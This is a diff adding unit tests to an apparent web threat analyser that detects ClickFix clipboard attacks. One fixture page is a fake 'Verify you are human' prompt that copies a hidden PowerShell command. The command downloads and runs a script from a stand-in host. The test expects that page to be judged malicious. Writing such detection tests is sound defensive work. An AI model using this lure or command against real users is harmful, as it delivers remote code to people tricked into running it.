@@ -782,6 +782,22 @@ describe('analysis: signal rules', () => {
     for (const [what, url, body] of walletLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
   });
 
+  describe('ClickFix and installer one-liners', () => {
+    const judge = (url: string, body: string): ReturnType<typeof analyze> => {
+      const result = analyze(inputFromFetch(html(url, body)), { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of result.signals) produced.add(s.id);
+      return result;
+    };
+    it("a copy button carrying an installer that fetches from the page's own site only corroborates; the same button fetching elsewhere, or hiding its window, is ClickFix", () => {
+      const docs = judge('https://scoop.example/', "<h1>Scoop</h1><p>Open PowerShell and run:</p><div id=c></div><script>var l='Invoke-RestMethod -Uri https://get.scoop.example | Invoke-Expression';b.onclick=function(){navigator.clipboard.writeText(l)}</script>");
+      assert.ok(docs.signals.some((x) => x.id === 'clipboard-shell-copied'));
+      assert.equal(docs.verdict, 'clean');
+      const elsewhere = judge('https://recipes-blog.example/', "<h1>Verify you are human</h1><p>Press Win+R, paste and press Enter.</p><script>var l='powershell -w hidden -c \"iex(irm https://cdn-stats.example/b.ps1)\" # I am not a robot';b.onclick=function(){navigator.clipboard.writeText(l)}</script>");
+      assert.ok(elsewhere.signals.some((x) => x.id === 'clipboard-shell-command'));
+      assert.equal(elsewhere.verdict, 'malicious');
+    });
+  });
+
   describe('rendered capture', () => {
     it('capture-incomplete: info only, naming what the capture cut short; a rendered download is judged by the download lists', () => {
       const capture = { engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: ['dialogs-dismissed', 'script-terminated'], downloads: [{ url: 'blob:https://www.example.com/x', filename: 'invoice.exe', mimeType: null, bytes: 2, sha256: null, magic: null }] };
